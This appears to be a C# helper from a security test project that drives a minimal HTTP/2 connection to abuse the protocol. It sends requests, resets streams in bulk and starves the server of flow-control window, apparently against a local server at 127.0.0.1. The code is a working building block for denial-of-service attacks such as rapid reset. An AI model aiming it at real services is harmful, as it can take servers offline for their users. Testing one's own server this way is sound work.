using System.Buffers.Binary;
using System.Text;

namespace Secronna.Attacks;

/// <summary>
/// A connection that speaks just enough of HTTP/2 (RFC 9113) to misuse it: it sends requests, resets them, and gives the server as
/// little room for answers as it likes.
/// </summary>
internal sealed class Http2Connection : IAsyncDisposable
{
    private const byte Headers = 1, Reset = 3, Settings = 4, Ping = 6, WindowUpdate = 8;
    private const byte Acknowledge = 1, EndStreamAndHeaders = 5;

    private readonly Stream stream;
    private readonly SemaphoreSlim writing = new(1);
    private readonly Task reading;
    private int lastStream = -1;

    private Http2Connection(Stream stream)
    {
        this.stream = stream;
        reading = ReadAsync();
    }

    /// <summary>Completes when the server has ended the connection.</summary>
    public Task Ended => reading;

    /// <summary>Sends the preface. Each answer may have <paramref name="initialWindow"/> bytes until more are allowed.</summary>
    public static async Task<Http2Connection> StartAsync(Stream stream, int initialWindow, CancellationToken cancellation)
    {
        await stream.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray(), cancellation);
        var connection = new Http2Connection(stream);
        var setting = new byte[6];
        setting[1] = 4;
        BinaryPrimitives.WriteInt32BigEndian(setting.AsSpan(2), initialWindow);
        await connection.WriteAsync(Settings, 0, 0, setting);
        return connection;
    }

    /// <summary>Sends a request without a body and returns the number of its stream.</summary>
    public async Task<int> SendAsync(string method, string path, string token)
    {
        var id = Interlocked.Add(ref lastStream, 2);
        using var block = new MemoryStream();
        Add(block, ":method", method);
        Add(block, ":scheme", "https");
        Add(block, ":authority", "127.0.0.1");
        Add(block, ":path", path);
        Add(block, "authorization", "Bearer " + token);
        await WriteAsync(Headers, EndStreamAndHeaders, id, block.ToArray());
        return id;
    }

    /// <summary>Resets a stream.</summary>
    public Task ResetAsync(int id) => WriteAsync(Reset, 0, id, [0, 0, 0, 8]);

    /// <summary>Allows some more bytes on a stream, or on the connection if the number is 0.</summary>
    public Task AllowAsync(int id, int bytes)
    {
        var more = new byte[4];
        BinaryPrimitives.WriteInt32BigEndian(more, bytes);
        return WriteAsync(WindowUpdate, 0, id, more);
    }

    public async ValueTask DisposeAsync()
    {
        await stream.DisposeAsync();
        await reading;
        writing.Dispose();
    }

    // A header that is not indexed, with a name of its own (RFC 7541, section 6.2.2). All texts are shorter than 127 bytes.
    private static void Add(MemoryStream block, string name, string value)
    {
        block.WriteByte(0);
        block.WriteByte((byte)name.Length);
        block.Write(Encoding.ASCII.GetBytes(name));
        block.WriteByte((byte)value.Length);
        block.Write(Encoding.ASCII.GetBytes(value));
    }

    private async Task WriteAsync(byte type, byte flags, int id, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, payload.Length << 8);
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), id);
        payload.CopyTo(frame, 9);
        await writing.WaitAsync();
        try
        {
            await stream.WriteAsync(frame);
        }
        finally
        {
            writing.Release();
        }
    }

    private async Task ReadAsync()
    {
        var header = new byte[9];
        try
        {
            while (true)
            {
                await stream.ReadExactlyAsync(header);
                var payload = new byte[(header[0] << 16) | (header[1] << 8) | header[2]];
                await stream.ReadExactlyAsync(payload);
                if (header[3] is Settings or Ping && (header[4] & Acknowledge) == 0)
                {
                    await WriteAsync(header[3], Acknowledge, 0, header[3] == Ping ? payload : []);
                }
            }
        }
        catch (Exception exception) when (exception is IOException or ObjectDisposedException)
        {
            // The server or the attacker ended the connection.
        }
    }
}
